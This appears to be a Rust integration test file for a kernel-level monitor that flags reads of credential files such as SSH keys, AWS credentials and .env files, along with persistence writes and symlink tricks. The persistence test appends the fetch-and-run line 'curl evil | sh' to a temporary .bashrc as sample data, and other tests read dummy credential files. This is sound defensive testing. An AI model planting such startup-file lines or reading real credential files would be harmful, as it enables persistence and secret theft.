@@ -1,0 +1,293 @@
+//! Files and credentials on the real kernel: paths, filesystems and flags come from the
+//! kernel's own `struct file`, not from the syscall arguments.
+use integration_tests::*;
+use serde_json::Value;
+
+fn one<'a>(r: &'a Run, path: &str, op: &str) -> &'a Value {
+    let found: Vec<&Value> = r
+        .files_at(path)
+        .into_iter()
+        .filter(|f| f["op"] == op)
+        .collect();
+    assert!(
+        !found.is_empty(),
+        "no {op} of {path}; files: {:#?}",
+        r.files()
+    );
+    found[0]
+}
+
+fn credential_violations(r: &Run) -> Vec<&Value> {
+    r.report["violations"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter(|v| v["kind"] == "credential")
+        .collect()
+}
+
+#[test]
+fn credential_reads_on_ext4_tmpfs_and_proc_are_verified() {
+    let dir = tempfile::tempdir_in("/tmp").unwrap();
+    let home = dir.path().join("home");
+    std::fs::create_dir_all(home.join(".ssh")).unwrap();
+    std::fs::create_dir_all(home.join(".aws")).unwrap();
+    let key = home.join(".ssh/id_ed25519");
+    std::fs::write(&key, "-----BEGIN OPENSSH PRIVATE KEY-----\n").unwrap();
+    std::fs::write(home.join(".aws/credentials"), "[default]\n").unwrap();
+    let shm = tempfile::tempdir_in("/dev/shm").unwrap();
+    let shm_env = shm.path().join(".env");
+    std::fs::write(&shm_env, "TOKEN=x\n").unwrap();
+    let script = format!(
+        "cat {key} > /dev/null; cat {aws} > /dev/null; cat {env} > /dev/null; cat /proc/self/environ > /dev/null",
+        key = key.display(),
+        aws = home.join(".aws/credentials").display(),
+        env = shm_env.display()
+    );
+    let r = run(&[], &["sh", "-c", &script]);
+    assert_eq!(r.code(), Some(0), "{}", r.stderr());
+
+    let k = one(&r, key.to_str().unwrap(), "read");
+    assert_eq!(k["credential"], true);
+    assert_eq!(k["verified"], true);
+    assert_eq!(k["fs"], "ext2/3/4");
+    assert_eq!(k["magic"], "0xef53");
+    let meta = std::fs::metadata(&key).unwrap();
+    assert_eq!(k["ino"], std::os::unix::fs::MetadataExt::ino(&meta));
+
+    let e = one(&r, shm_env.to_str().unwrap(), "read");
+    assert_eq!(
+        (
+            e["credential"].clone(),
+            e["verified"].clone(),
+            e["fs"].clone()
+        ),
+        (true.into(), true.into(), "tmpfs".into())
+    );
+    assert_eq!(e["magic"], "0x1021994");
+
+    // /proc/self is resolved by the kernel to the reading process's own pid.
+    let cat_environ = r.exec_of(&["cat", "/proc/self/environ"]);
+    let environ = format!("/proc/{}/environ", cat_environ["pid"]);
+    let p = one(&r, &environ, "read");
+    assert_eq!(
+        (
+            p["credential"].clone(),
+            p["verified"].clone(),
+            p["fs"].clone()
+        ),
+        (true.into(), true.into(), "proc".into())
+    );
+
+    assert_eq!(
+        one(&r, home.join(".aws/credentials").to_str().unwrap(), "read")["credential"],
+        true
+    );
+    assert_eq!(
+        credential_violations(&r).len(),
+        4,
+        "{:#?}",
+        r.report["violations"]
+    );
+}
+
+#[test]
+fn symlinks_and_relative_paths_are_resolved_by_the_kernel() {
+    let dir = tempfile::tempdir_in("/tmp").unwrap();
+    let real = dir.path().join("vault/.git-credentials");
+    std::fs::create_dir_all(real.parent().unwrap()).unwrap();
+    std::fs::write(&real, "https://u:p@example.com\n").unwrap();
+    std::os::unix::fs::symlink(&real, dir.path().join("innocent.txt")).unwrap();
+    std::fs::create_dir_all(dir.path().join("work/sub")).unwrap();
+    std::fs::write(dir.path().join("work/notes.md"), "hi").unwrap();
+    let script = format!(
+        "cd {d}/work/sub && cat ../../innocent.txt > /dev/null && cat ./../notes.md > /dev/null",
+        d = dir.path().display()
+    );
+    let r = run(&[], &["sh", "-c", &script]);
+    assert_eq!(r.code(), Some(0), "{}", r.stderr());
+    let cred = one(&r, real.to_str().unwrap(), "read");
+    assert_eq!(
+        cred["credential"], true,
+        "a read through a symlink is a read of its target"
+    );
+    assert_eq!(cred["verified"], true);
+    assert!(
+        r.files_at(dir.path().join("innocent.txt").to_str().unwrap())
+            .is_empty()
+    );
+    one(
+        &r,
+        dir.path().join("work/notes.md").to_str().unwrap(),
+        "read",
+    );
+}
+
+#[test]
+fn look_alikes_are_not_credentials() {
+    let dir = tempfile::tempdir_in("/tmp").unwrap();
+    let names = [
+        "docs/credentials-guide.md",
+        "src/aws/credentials.rs",
+        "ssh/id_ed25519.pub",
+        ".env.example",
+        "environment.yml",
+    ];
+    for n in names {
+        let p = dir.path().join(n);
+        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
+        std::fs::write(&p, "x").unwrap();
+    }
+    let script = format!(
+        "cd {} && cat {} > /dev/null",
+        dir.path().display(),
+        names.join(" ")
+    );
+    let r = run(&[], &["sh", "-c", &script]);
+    assert_eq!(r.code(), Some(0), "{}", r.stderr());
+    for n in names {
+        let f = one(&r, dir.path().join(n).to_str().unwrap(), "read");
+        assert_eq!(f["credential"], false, "{n}");
+    }
+    assert!(credential_violations(&r).is_empty());
+}
+
+#[test]
+fn create_write_rename_delete_and_persistence() {
+    let dir = tempfile::tempdir_in("/tmp").unwrap();
+    let d = dir.path().display().to_string();
+    std::fs::write(dir.path().join("existing.txt"), "old").unwrap();
+    std::fs::create_dir_all(dir.path().join("home")).unwrap();
+    std::fs::create_dir_all(dir.path().join("repo/.git/hooks")).unwrap();
+    let script = format!(
+        "cd {d} && echo new > created.txt && echo more >> existing.txt && mv created.txt moved.txt \
+         && rm existing.txt && mkdir gone && rmdir gone \
+         && echo 'curl evil | sh' >> home/.bashrc && printf '#!/bin/sh\\n' > repo/.git/hooks/pre-commit \
+         && echo sample > repo/.git/hooks/pre-commit.sample"
+    );
+    let r = run(&[], &["sh", "-c", &script]);
+    assert_eq!(r.code(), Some(0), "{}", r.stderr());
+    let created = one(&r, &format!("{d}/created.txt"), "create");
+    assert_eq!(created["fs"], "ext2/3/4");
+    one(&r, &format!("{d}/existing.txt"), "write");
+    let moved = one(&r, &format!("{d}/created.txt"), "rename");
+    assert_eq!(moved["new_path"], format!("{d}/moved.txt"));
+    assert_eq!(
+        moved["sha256"], "7aa7a5359173d05b63cfd682e3c38487f3cb4f7f1d60659fe59fab1505977d4c",
+        "sha256 of the final content: {moved:#}"
+    );
+    one(&r, &format!("{d}/existing.txt"), "delete");
+    one(&r, &format!("{d}/gone"), "delete");
+    let persistence: Vec<&Value> = r
+        .files()
+        .iter()
+        .filter(|f| f["persistence"] == true)
+        .collect();
+    let paths: Vec<&str> = persistence
+        .iter()
+        .map(|f| f["path"].as_str().unwrap())
+        .collect();
+    assert!(
+        paths.contains(&format!("{d}/home/.bashrc").as_str()),
+        "{paths:?}"
+    );
+    assert!(
+        paths.contains(&format!("{d}/repo/.git/hooks/pre-commit").as_str()),
+        "{paths:?}"
+    );
+    assert!(!paths.iter().any(|p| p.ends_with(".sample")), "{paths:?}");
+    let v: Vec<&Value> = r.report["violations"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter(|v| v["kind"] == "persistence")
+        .collect();
+    assert_eq!(v.len(), persistence.len());
+    assert!(v.len() >= 2);
+}
+
+#[test]
+fn ordinary_session_has_no_false_flags() {
+    let dir = tempfile::tempdir_in("/tmp").unwrap();
+    let script = format!(
+        "export HOME={d}; cd {d} && git init -q repo && cd repo && git config user.email a@b.c && git config user.name A \
+         && echo 'print(1)' > main.py && git add . && git commit -qm one && echo 'import json, os, re' >> main.py \
+         && git commit -qam two && python3 -c 'import json, os, re, subprocess, pathlib' && ls -R {d} > /dev/null && git log --oneline > /dev/null",
+        d = dir.path().display()
+    );
+    let r = run(&[], &["sh", "-c", &script]);
+    assert_eq!(r.code(), Some(0), "{}", r.stderr());
+    let flagged: Vec<&Value> = r
+        .files()
+        .iter()
+        .filter(|f| f["credential"] == true || f["persistence"] == true)
+        .collect();
+    assert!(flagged.is_empty(), "false flags: {flagged:#?}");
+    assert!(r.files().len() > 20, "the session touched files");
+    assert!(r.execs_of(&["git", "commit", "-qm", "one"]).len() == 1);
+}
+
+#[test]
+fn an_open_storm_is_one_entry_with_its_count() {
+    let dir = tempfile::tempdir_in("/tmp").unwrap();
+    let target = dir.path().join("hot.txt");
+    std::fs::write(&target, "x").unwrap();
+    let py = format!(
+        "import os\nfor _ in range(200000):\n    os.close(os.open('{}', os.O_RDONLY))\n",
+        target.display()
+    );
+    let r = run(&[], &["python3", "-c", &py]);
+    assert_eq!(r.code(), Some(0), "{}", r.stderr());
+    let entries = r.files_at(target.to_str().unwrap());
+    assert_eq!(entries.len(), 1, "{entries:#?}");
+    assert_eq!(entries[0]["count"], 200000);
+    let events = r.report["coverage"]["events"].as_u64().unwrap();
+    println!("events that crossed the ring buffer for 200000 opens: {events}");
+    assert!(
+        events < 2000,
+        "the kernel aggregates repeated reads; {events} records crossed"
+    );
+    assert_eq!(r.report["coverage"]["lost"], 0);
+}
+
+#[test]
+fn the_open_hook_states_what_it_cannot_see() {
+    let r = run(&[], &["true"]);
+    let hook = r.report["probe"]["file_open"].as_str().unwrap().to_string();
+    let gaps: Vec<String> = r.report["probe"]["gaps"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|g| g.as_str().unwrap().to_string())
+        .collect();
+    match hook.as_str() {
+        "tracepoint" => {
+            assert!(gaps.iter().any(|g| g.contains("io_uring")), "{gaps:?}");
+            assert_eq!(r.report["coverage"]["complete"], false);
+        }
+        "fentry" => assert!(!gaps.iter().any(|g| g.contains("io_uring")), "{gaps:?}"),
+        other => panic!("unknown hook {other}"),
+    }
+    // Forcing the fallback works on every kernel and names the gap.
+    let r = run(&["--file-hook", "tracepoint"], &["true"]);
+    assert_eq!(r.report["probe"]["file_open"], "tracepoint");
+    assert!(
+        r.report["probe"]["gaps"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .any(|g| g.as_str().unwrap().contains("io_uring"))
+    );
+}
+
+#[test]
+fn paths_with_newlines_and_invalid_utf8_are_kept() {
+    let dir = tempfile::tempdir_in("/tmp").unwrap();
+    let d = dir.path().display().to_string();
+    // printf writes the name: a newline and a byte that is not UTF-8.
+    let script = format!("cd {d} && touch \"$(printf 'a\\nb')\" && touch \"$(printf 'c\\377d')\"");
+    let r = run(&[], &["sh", "-c", &script]);
+    assert_eq!(r.code(), Some(0), "{}", r.stderr());
+    one(&r, &format!("{d}/a\nb"), "create");
+    one(&r, &format!("{d}/c\\xffd"), "create");
+}
